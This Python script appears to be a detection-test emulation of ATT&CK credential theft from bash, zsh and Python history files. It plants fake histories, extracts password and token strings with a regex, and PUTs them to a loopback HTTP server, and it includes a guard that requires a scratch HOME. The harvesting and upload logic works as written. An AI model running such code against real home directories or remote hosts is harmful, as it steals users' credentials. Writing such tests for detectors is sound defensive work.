# technique: T1552.003 T1041
"""Unsecured Credentials: Bash History (T1552.003) and other shell and
REPL histories, mined with a regular expression and sent with an
http.client PUT to a loopback server (T1041).

Plants ~/.bash_history (with a `mysql -p...` and an `export TOKEN=`
line), ~/.zsh_history and ~/.python_history, reads every *history file in
HOME found by os.listdir, extracts password-looking strings and PUTs them
as form data to a socketserver-based HTTP sink on 127.0.0.1:0.

A good detector raises a medium or high alert: a program reads shell
history files (and sends something out afterwards).
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import http.client
import os
import re
import socketserver
import threading
import urllib.parse

home = os.path.expanduser("~")
with open(os.path.join(home, ".bash_history"), "w") as f:
    f.write("ls\nmysql -u root -pHunter2fake db\nexport GITHUB_TOKEN=ghp_fakefake\nssh admin@10.0.0.5\n")
with open(os.path.join(home, ".zsh_history"), "w") as f:
    f.write(": 1700000000:0;curl -u deploy:Pa55fake https://ci.example\n")
with open(os.path.join(home, ".python_history"), "w") as f:
    f.write("requests.get(u, auth=('svc', 'fakepass'))\n")


class Sink(socketserver.StreamRequestHandler):
    def handle(self):
        self.rfile.read1(65536)
        self.wfile.write(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n")


srv = socketserver.TCPServer(("127.0.0.1", 0), Sink)
threading.Thread(target=srv.serve_forever, daemon=True).start()
pattern = re.compile(r"(-p\S+|TOKEN=\S+|\S+:\S+@|auth=\([^)]*\))")
found = []
for name in os.listdir(home):
    if name.endswith("history"):
        with open(os.path.join(home, name), errors="replace") as f:
            found += pattern.findall(f.read())
conn = http.client.HTTPConnection(*srv.server_address, timeout=5)
conn.request("PUT", "/upload", body=urllib.parse.urlencode({"h": "\n".join(found)}),
             headers={"Content-Type": "application/x-www-form-urlencoded"})
conn.getresponse().read()
conn.close()
srv.shutdown()
print(len(found), "secrets")
